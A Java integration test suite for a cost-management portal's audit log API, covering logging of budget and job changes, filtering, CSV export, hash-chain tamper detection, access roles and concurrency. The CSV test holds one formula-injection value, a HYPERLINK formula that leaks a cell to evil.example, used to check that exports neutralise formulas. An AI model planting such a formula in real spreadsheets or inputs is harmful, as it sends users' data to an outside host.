package com.costguard.portal.it;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.IOException;
import java.io.StringReader;
import java.net.URL;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The audit log over REST against the real WAR in Payara Micro and a real MariaDB: budget changes
 * and job cancels made through the API are recorded with their actor, channel and values, read back
 * filtered, paged and as CSV, and the hash chain verifies, and catches a row changed in the
 * database. The database (and so the log) is shared with the other tests: each test acts as a user
 * of its own and reads its own entries by actor, and a tampered row is put back before the test
 * ends.
 */
@SharedDeployment
class AuditLogIT {

  private static final String AUDIT = "api/v1/audit-log";
  private static final String BUDGETS = "api/v1/budgets";

  @ArquillianResource URL base;

  private Api api;
  private String client;
  private TestUsers.TestUser manager;

  @BeforeEach
  void setUp() throws SQLException {
    api = new Api(base);
    client = "it-audit-" + UUID.randomUUID();
    manager = TestUsers.create("BUDGET_MANAGER");
  }

  private long budget(String limit) {
    Api.Answer created =
        api.post(
            BUDGETS,
            Fixtures.load(
                "budget.json",
                Map.of(
                    "name", client, "period", "calendar_month", "limit", limit, "client", client)),
            manager.token());
    assertThat(created.status()).as(created.body()).isEqualTo(201);
    return created.json().getJsonNumber("id").longValueExact();
  }

  private void changed(Api.Answer answer) {
    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
  }

  /** The entries of the query (after {@code ?}), newest first, read as the manager. */
  private List<JsonObject> entries(String query) {
    JsonObject page = page(query);
    return page.getJsonArray("entries").getValuesAs(JsonObject.class);
  }

  private JsonObject page(String query) {
    Api.Answer answer = api.get(AUDIT + "?" + query, manager.token());
    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    return answer.json();
  }

  private String mine() {
    return "actor=" + encoded(manager.username());
  }

  private static String encoded(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }

  private JsonObject verify() {
    Api.Answer answer = api.get(AUDIT + "/verify", manager.token());
    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    return answer.json();
  }

  @Test
  void budgetChangesMadeOverTheApiAreAuditedWithTheirActorChannelAndValues() {
    long id = budget("500");
    changed(api.put(BUDGETS + "/" + id, "{\"limit\": 750.5}", manager.token()));
    changed(api.put(BUDGETS + "/" + id, "{\"enabled\": false}", manager.token()));
    changed(api.post(BUDGETS + "/" + id + "/reset", "", manager.token()));
    assertThat(api.delete(BUDGETS + "/" + id, manager.token()).status()).isEqualTo(204);

    List<JsonObject> entries = entries(mine());

    assertThat(entries)
        .extracting(e -> e.getString("action"))
        .containsExactly(
            "budget.deleted",
            "budget.reset",
            "budget.updated",
            "budget.limit_changed",
            "budget.created");
    assertThat(entries)
        .allSatisfy(
            e -> {
              assertThat(e.getString("actor")).isEqualTo(manager.username());
              assertThat(e.getString("channel")).isEqualTo("api");
              assertThat(e.getString("subjectType")).isEqualTo("budget");
              assertThat(e.getString("subjectId")).isEqualTo(String.valueOf(id));
              assertThat(e.getString("hash")).hasSize(64);
            });
    for (int i = 0; i < entries.size() - 1; i++) {
      JsonObject newer = entries.get(i);
      JsonObject older = entries.get(i + 1);
      assertThat(newer.getJsonNumber("seq").longValue())
          .isGreaterThan(older.getJsonNumber("seq").longValue());
    }
    JsonObject limit = entries.get(3);
    assertThat(limit.get("oldValue").toString()).isEqualTo("{\"limit\":500.00}");
    assertThat(limit.get("newValue").toString()).isEqualTo("{\"limit\":750.50}");
    assertThat(limit.get("changePercent").toString()).isEqualTo("50.10");
    assertThat(limit.isNull("justification")).isTrue();
    assertThat(entries.get(2).get("oldValue").toString()).isEqualTo("{\"enabled\":true}");
    assertThat(entries.get(2).isNull("changePercent")).isTrue();
    JsonObject created = entries.get(4);
    assertThat(created.isNull("oldValue")).isTrue();
    assertThat(created.getJsonObject("newValue").getString("name")).isEqualTo(client);
    assertThat(created.getJsonObject("newValue").get("limit").toString()).isEqualTo("500.00");
    assertThat(entries.get(1).getJsonObject("newValue").getString("lastResetAt")).isNotBlank();
    JsonObject deleted = entries.get(0);
    assertThat(deleted.isNull("newValue")).isTrue();
    assertThat(deleted.getJsonObject("oldValue").get("limit").toString()).isEqualTo("750.50");
    assertThat(deleted.getJsonObject("oldValue").getBoolean("enabled")).isFalse();

    JsonObject verified = verify();
    assertThat(verified.getBoolean("ok")).as(verified.toString()).isTrue();
    assertThat(verified.getJsonNumber("entries").longValue())
        .isGreaterThanOrEqualTo(entries.get(0).getJsonNumber("seq").longValue());
  }

  @Test
  void entriesAreFilteredAndPaged() {
    long id = budget("100");
    changed(api.put(BUDGETS + "/" + id, "{\"limit\": 150}", manager.token()));
    changed(api.put(BUDGETS + "/" + id, "{\"limit\": 120}", manager.token()));
    changed(api.post(BUDGETS + "/" + id + "/reset", "", manager.token()));

    List<JsonObject> limits = entries(mine() + "&action=budget.limit_changed");
    assertThat(limits)
        .extracting(e -> e.get("changePercent").toString())
        .containsExactly("-20.00", "50.00");

    JsonObject page = page(mine() + "&offset=1&limit=2");
    assertThat(page.getInt("total")).isEqualTo(4);
    assertThat(page.getInt("offset")).isEqualTo(1);
    assertThat(page.getInt("limit")).isEqualTo(2);
    assertThat(page.getJsonArray("entries").getValuesAs(JsonObject.class))
        .extracting(e -> e.getString("action"))
        .containsExactly("budget.limit_changed", "budget.limit_changed");

    String createdAt = entries(mine() + "&action=budget.created").get(0).getString("at");
    assertThat(entries(mine() + "&from=" + encoded(createdAt))).hasSize(4);
    assertThat(entries(mine() + "&to=" + encoded(createdAt))).isEmpty();
    assertThat(entries(mine() + "&from=2999-01-01T00:00:00Z")).isEmpty();
  }

  @Test
  void aJobCancelIsAudited() throws SQLException {
    TestUsers.TestUser engineer = TestUsers.create("ENGINEER");
    Api.Answer job =
        api.post(
            "api/v1/jobs",
            Fixtures.load(
                "job.json",
                Map.of("externalId", "it-audit-" + UUID.randomUUID(), "controlUrl", "null")),
            engineer.token());
    assertThat(job.status()).as(job.body()).isEqualTo(201);
    long id = job.json().getJsonNumber("id").longValueExact();

    changed(api.post("api/v1/jobs/" + id + "/cancel", "", engineer.token()));
    changed(api.post("api/v1/jobs/" + id + "/cancel", "", engineer.token())); // nothing new

    List<JsonObject> entries = entries("actor=" + encoded(engineer.username()));
    assertThat(entries).hasSize(1);
    JsonObject cancel = entries.get(0);
    assertThat(cancel.getString("action")).isEqualTo("job.cancelled");
    assertThat(cancel.getString("subjectType")).isEqualTo("job");
    assertThat(cancel.getString("subjectId")).isEqualTo(String.valueOf(id));
    assertThat(cancel.getString("channel")).isEqualTo("api");
    assertThat(cancel.get("oldValue").toString()).isEqualTo("{\"status\":\"queued\"}");
    assertThat(cancel.get("newValue").toString())
        .isEqualTo("{\"status\":\"cancelled\",\"finalCost\":0.00}");
  }

  @Test
  void aRowChangedInTheDatabaseIsFoundAtItsSeq() throws SQLException {
    long id = budget("500");
    changed(api.put(BUDGETS + "/" + id, "{\"limit\": 400}", manager.token()));
    JsonObject limitChange = entries(mine() + "&action=budget.limit_changed").get(0);
    long seq = limitChange.getJsonNumber("seq").longValueExact();
    assertThat(verify().getBoolean("ok")).isTrue();

    String original = newValue(seq);
    try {
      setNewValue(seq, "{\"limit\":40000.00}");

      JsonObject verdict = verify();

      assertThat(verdict.getBoolean("ok")).as(verdict.toString()).isFalse();
      assertThat(verdict.getJsonNumber("brokenAt").longValueExact()).isEqualTo(seq);
      assertThat(verdict.getString("reason")).contains("entry " + seq + " was changed");
      assertThat(verdict.getJsonNumber("entries").longValueExact()).isEqualTo(seq - 1);
    } finally {
      setNewValue(seq, original);
    }
    assertThat(verify().getBoolean("ok")).isTrue();
  }

  private static String newValue(long seq) throws SQLException {
    try (Connection db = TestDatabase.connect();
        PreparedStatement read =
            db.prepareStatement("select new_value from audit_log where seq = ?")) {
      read.setLong(1, seq);
      try (ResultSet row = read.executeQuery()) {
        assertThat(row.next()).isTrue();
        return row.getString(1);
      }
    }
  }

  private static void setNewValue(long seq, String value) throws SQLException {
    try (Connection db = TestDatabase.connect();
        PreparedStatement update =
            db.prepareStatement("update audit_log set new_value = ? where seq = ?")) {
      update.setString(1, value);
      update.setLong(2, seq);
      assertThat(update.executeUpdate()).isEqualTo(1);
    }
  }

  @Test
  void theCsvExportHasAHeaderRowAndNeutralisedFormulas() throws IOException {
    String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";
    long id = budget("500");
    changed(
        api.put(
            BUDGETS + "/" + id,
            Json.createObjectBuilder().add("name", formula).build().toString(),
            manager.token()));
    changed(api.put(BUDGETS + "/" + id, "{\"limit\": 250}", manager.token()));

    Api.Answer csv = api.get(AUDIT + "?format=csv&" + mine(), manager.token());

    assertThat(csv.status()).as(csv.body()).isEqualTo(200);
    assertThat(csv.header("Content-Type"))
        .hasValueSatisfying(t -> assertThat(t).startsWith("text/csv"));
    assertThat(csv.header("Content-Disposition"))
        .hasValueSatisfying(d -> assertThat(d).contains("audit-log.csv"));
    assertThat(csv.body()).startsWith("Date,Changed by,Old,New,Change %,").contains("\r\n");
    List<CSVRecord> rows;
    try (CSVParser parser =
        CSVFormat.RFC4180
            .builder()
            .setHeader()
            .setSkipHeaderRecord(true)
            .get()
            .parse(new StringReader(csv.body()))) {
      assertThat(parser.getHeaderNames())
          .containsExactly(
              "Date",
              "Changed by",
              "Old",
              "New",
              "Change %",
              "Justification",
              "Approver",
              "Via",
              "Action",
              "Subject",
              "Seq",
              "Hash");
      rows = parser.getRecords();
    }
    assertThat(rows)
        .extracting(r -> r.get("Action"))
        .containsExactly("budget.limit_changed", "budget.updated", "budget.created");
    CSVRecord limit = rows.get(0);
    assertThat(limit.get("Old")).isEqualTo("500.00");
    assertThat(limit.get("New")).isEqualTo("250.00");
    assertThat(limit.get("Change %")).isEqualTo("-50.00");
    assertThat(limit.get("Changed by")).isEqualTo(manager.username());
    assertThat(limit.get("Via")).isEqualTo("api");
    assertThat(limit.get("Subject")).isEqualTo("budget " + id);
    CSVRecord renamed = rows.get(1);
    assertThat(renamed.get("Old")).isEqualTo(client);
    assertThat(renamed.get("New")).isEqualTo("'" + formula);
    assertThat(rows).allSatisfy(r -> assertThat(r.get("Hash")).hasSize(64));
  }

  @Test
  void viewersAndEngineersMayNotReadTheLogApproversMay() throws SQLException {
    for (String role : List.of("VIEWER", "ENGINEER")) {
      String token = TestUsers.tokenFor(role);
      List<Api.Answer> refused =
          List.of(
              api.get(AUDIT, token),
              api.get(AUDIT + "?format=csv", token),
              api.get(AUDIT + "/verify", token));
      assertThat(refused).as(role).extracting(Api.Answer::status).containsOnly(403);
      assertThat(refused).extracting(a -> a.json().getString("error")).containsOnly("forbidden");
    }
    String approver = TestUsers.tokenFor("APPROVER");
    assertThat(api.get(AUDIT, approver).status()).isEqualTo(200);
    assertThat(api.get(AUDIT + "/verify", approver).status()).isEqualTo(200);
    assertThat(api.get(AUDIT, null).status()).isEqualTo(401);
  }

  @Test
  void badFiltersAreRefusedNamingTheField() {
    Map<String, String> cases =
        Map.of(
            "from=yesterday", "from",
            "to=2026-13-01T00:00:00Z", "to",
            "from=2026-03-02T00:00:00Z&to=2026-03-01T00:00:00Z", "to",
            "action=budget.renamed", "action",
            "limit=0", "limit",
            "limit=501", "limit",
            "offset=-1", "offset",
            "offset=first", "offset",
            "format=xml", "format");
    for (var bad : cases.entrySet()) {
      Api.Answer refused = api.get(AUDIT + "?" + bad.getKey(), manager.token());
      assertThat(refused.status()).as(bad.getKey()).isEqualTo(400);
      assertThat(refused.json().getString("field")).as(bad.getKey()).isEqualTo(bad.getValue());
    }
  }

  @Test
  void concurrentChangesAreChainedOneAfterAnotherWithoutGaps() throws Exception {
    long id = budget("1000");
    int threads = 8;
    int changesEach = 5;
    ExecutorService pool = Executors.newFixedThreadPool(threads);
    try {
      List<Future<Integer>> statuses = new ArrayList<>();
      for (int t = 0; t < threads; t++) {
        int thread = t;
        statuses.add(
            pool.submit(
                () -> {
                  int worst = 200;
                  for (int i = 0; i < changesEach; i++) {
                    String limit = (1001 + thread * changesEach + i) + "";
                    int status =
                        api.put(BUDGETS + "/" + id, "{\"limit\": " + limit + "}", manager.token())
                            .status();
                    worst = Math.max(worst, status);
                  }
                  return worst;
                }));
      }
      for (Future<Integer> status : statuses) {
        assertThat(status.get()).isEqualTo(200);
      }
    } finally {
      pool.shutdownNow();
    }

    List<JsonObject> entries = entries(mine() + "&limit=500");
    assertThat(entries).hasSize(threads * changesEach + 1);
    List<Long> seqs = entries.stream().map(e -> e.getJsonNumber("seq").longValue()).toList();
    assertThat(seqs).doesNotHaveDuplicates();
    // Each change saw the limit the one before it left: the old values chain like the hashes.
    for (int i = 0; i < entries.size() - 2; i++) {
      assertThat(entries.get(i).getJsonObject("oldValue").get("limit"))
          .isEqualTo(entries.get(i + 1).getJsonObject("newValue").get("limit"));
    }
    JsonObject verified = verify();
    assertThat(verified.getBoolean("ok")).as(verified.toString()).isTrue();
  }

  @Test
  void theOpenApiDocumentDescribesTheAuditLog() {
    assertThat(api.get("openapi", null).body())
        .contains("/api/v1/audit-log/verify")
        .contains("Check the audit log's hash chain");
  }
}
